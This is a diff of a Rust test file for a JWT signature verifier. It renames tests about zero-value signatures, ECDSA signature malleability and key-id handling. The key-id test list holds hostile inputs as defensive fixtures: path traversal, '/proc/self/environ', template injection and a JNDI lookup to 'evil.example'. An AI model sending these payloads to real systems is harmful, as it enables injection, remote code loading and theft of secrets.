@@ -1,5 +1,4 @@
-//! Attacks that are known by name, played as their authors would, as far as no other file does it: docs/attacks.md is the
-//! page about them all, and names the tests of each.
+//! Published attacks that no other file covers. docs/attacks.md lists all attacks, with the tests of each.
 
 use base64::Engine as _;
 use base64::engine::general_purpose::URL_SAFE_NO_PAD;
@@ -20,7 +19,7 @@ fn signature(token: &str) -> Vec<u8> {
 // Signatures of zeros, and other spellings
 
 #[test]
-fn zeros_are_no_signature() {
+fn signature_of_zeros_is_rejected() {
     for alg in Algorithm::ALL {
         let key = SigningKey::generate(alg);
         let verifier = verifier_for_client([key.jwk()]);
@@ -40,8 +39,8 @@ const ORDER: [u8; 32] = [
 ];
 
 #[test]
-fn a_second_spelling_of_an_ecdsa_signature_changes_no_claim() {
-    // (r, n - s) is as good as (r, s), as SECURITY.md says. It is a signature of the same content, and of no other.
+fn second_form_of_ecdsa_signature_changes_no_claim() {
+    // (r, n - s) is valid if (r, s) is, as SECURITY.md says. It signs the same content.
     let key = SigningKey::generate(Algorithm::ES256);
     let verifier = verifier_for_client([key.jwk()]);
     let token = client_token().sign_with(&key);
@@ -78,7 +77,7 @@ fn difference(a: &[u8], b: &[u8]) -> Vec<u8> {
 // Key ids
 
 #[test]
-fn a_key_id_is_compared_and_never_interpreted() {
+fn key_id_is_compared_and_never_interpreted() {
     for kid in [
         "../../../../dev/null",
         "/proc/self/environ",
@@ -94,7 +93,7 @@ fn a_key_id_is_compared_and_never_interpreted() {
         "{{7*7}}",
         "${jndi:ldap://evil.example/a}",
     ] {
-        // The same text is as good a name as any where the issuer uses it.
+        // An issuer may use any string as a key id.
         let named = KEY.clone().with_kid(kid);
         assert!(
             verifier_for_client([named.jwk()]).verify(client_token().sign_with(&named)).is_ok(),
